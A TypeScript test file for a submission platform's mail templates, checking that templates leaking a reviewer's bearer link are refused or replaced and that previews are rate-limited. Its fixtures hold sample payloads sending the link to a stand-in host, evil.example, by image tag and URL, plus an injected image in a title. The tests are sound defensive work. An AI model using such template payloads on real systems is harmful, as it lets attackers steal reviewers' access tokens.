// An editor's words may not leak a reviewer's bearer link: a template that glues {{ link }} into
// another address, loads an image from elsewhere or prints an author's words unescaped is refused
// at saving and previewing (400, nothing stored), and one written straight into the table is not
// sent (the default words are). Previews and saves are rate-limited (429 with a clear message).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertAssignment } from '../../test/assignments.ts';
import { buildTestApp, makePerson, makeVenue, type TestApp } from '../../test/build-test-app.ts';
import { signedIn, type TestClient } from '../../test/client.ts';
import { makeCall, makeCompleteDraft } from '../../test/factories.ts';
import { writeDueSoonReminder } from '../../test/written-reminder.ts';
import { grantRole } from '../accounts/person.repository.ts';

let t: TestApp;
let venueId: string;
let editor: TestClient;
let assignmentId: string;
let occurrence = 0;

const base = () => `/api/venues/${venueId}/mail-templates`;
const stored = () => t.db.selectFrom('mail_template').selectAll().where('venue_id', '=', venueId).execute();

async function newEditor() {
  const person = await makePerson(t.db, 'author');
  await grantRole(t.db, person.id, 'editor', venueId);
  return signedIn(t.app, person.email);
}

beforeAll(async () => {
  t = await buildTestApp();
  venueId = (await makeVenue(t.db)).id;
  editor = await newEditor();
  const author = await makePerson(t.db, 'author');
  const authorClient = await signedIn(t.app, author.email);
  const callId = await makeCall(t.db, venueId);
  const submissionId = await makeCompleteDraft(authorClient, callId, {
    title: 'Essay <img src="https://evil.example/t.gif">',
    authors: [{ name: 'Ann Author', email: author.email, affiliation: null }],
  });
  expect((await authorClient.post(`/api/submissions/${submissionId}/submit`)).statusCode).toBe(200);
  await t.db.updateTable('submission').set({ status: 'in_review' }).where('id', '=', submissionId).execute();
  const reviewer = await makePerson(t.db, 'author');
  assignmentId = await insertAssignment(t.db, {
    submissionId,
    reviewerId: reviewer.id,
    status: 'accepted',
    dueAt: new Date('2027-03-01T12:00:00Z'),
  });
});
afterAll(async () => {
  await t.close();
});

/** Writes a "due soon" reminder as the sweep would, and answers the message it queued. */
function dueSoonReminder() {
  occurrence += 1;
  return writeDueSoonReminder(t.db, assignmentId, occurrence);
}

const leaks = [
  { subject: 'Due', text: 'Dear {{ name }}', html: '<p><img src="https://evil.example/p.gif?l={{ link }}"></p>' },
  { subject: 'Due', text: 'Open https://evil.example/?l={{ link }}', html: null },
  { subject: 'Due', text: 'Open {{ link | url_encode }}', html: null },
  { subject: 'Due', text: 'Hi', html: '<p>{{ title | raw }}</p>' },
  { subject: 'Due', text: '{% assign k = "title" %}{{ [k] }}', html: null },
];

describe('saving and previewing', () => {
  it('refuses a template that would leak a link, load from elsewhere or print raw, saying what to change', async () => {
    for (const body of leaks) {
      for (const answer of [
        await editor.put(`${base()}/reminder.due_soon`, body),
        await editor.post(`${base()}/reminder.due_soon/preview`, body),
      ]) {
        expect(answer.statusCode, JSON.stringify(body)).toBe(400);
        const { error } = answer.json();
        expect(error.code).toBe('template_invalid');
        expect(error.fields[0].path).toMatch(/text|html/);
        expect(error.message).toMatch(/on its own|another site|Remove it|raw|works out/);
      }
    }
    expect(await stored()).toEqual([]);
  });

  it('accepts the link on its own and the site’s own pages', async () => {
    const answer = await editor.post(`${base()}/reminder.due_soon/preview`, {
      subject: 'Due',
      text: 'Open {{ link }}\nHelp: http://localhost:3000/help',
      html: '<p><a href="{{ link }}">Open</a> <a href="http://localhost:3000/help">help</a></p>',
    });
    expect(answer.statusCode).toBe(200);
    expect(answer.json().text).toContain('Open https://submissions.example.org/invitations/sample');
  });
});

describe('a template written straight into the table', () => {
  it('that glues the link into another address is not sent: the default words are', async () => {
    for (const bad of leaks.slice(0, 2)) {
      await t.db
        .insertInto('mail_template')
        .values({
          venue_id: venueId,
          key: 'reminder.due_soon',
          subject: bad.subject,
          text_body: bad.text,
          html_body: bad.html,
        })
        .execute();
      const sent = await dueSoonReminder();
      expect(`${sent.text_body}\n${sent.html_body}`).not.toContain('evil.example/p.gif');
      expect(sent.text_body).not.toContain('evil.example/?l=');
      expect(sent.text_body).toContain('A reminder that your review of this submission is due by');
      await t.db.deleteFrom('mail_template').where('venue_id', '=', venueId).execute();
    }
  });

  it('that prints the link on its own is sent, with the real link', async () => {
    await t.db
      .insertInto('mail_template')
      .values({
        venue_id: venueId,
        key: 'reminder.due_soon',
        subject: 'Custom due',
        text_body: 'Custom words: {{ link }}',
        html_body: '<p><a href="{{ link }}">Open</a></p>',
      })
      .execute();
    const sent = await dueSoonReminder();
    expect(sent.text_body).toMatch(/^Custom words: https:\/\/submissions\.example\.org\/\S+$/);
    expect(sent.html_body).toMatch(/<a href="https:\/\/submissions\.example\.org\/[^"]+">Open<\/a>/);
    await t.db.deleteFrom('mail_template').where('venue_id', '=', venueId).execute();
  });
});

describe('the rate limit', () => {
  it('answers 429 with a clear message after many previews by one person, not others', async () => {
    const busy = await newEditor();
    const body = { subject: 'Due', text: 'Hello {{ name }}', html: null };
    let last = await busy.post(`${base()}/reminder.due_soon/preview`, body);
    for (let i = 1; i <= 60; i++) last = await busy.post(`${base()}/reminder.due_soon/preview`, body);
    expect(last.statusCode).toBe(429);
    expect(last.json().error.message).toMatch(/previewed or saved messages many times.*wait/);
    // Saving counts on its own (60 in 10 minutes), so a refused preview does not lose the words.
    expect((await busy.put(`${base()}/reminder.due_soon`, body)).statusCode).toBe(200);
    expect((await editor.post(`${base()}/reminder.due_soon/preview`, body)).statusCode).toBe(200);
  });
});
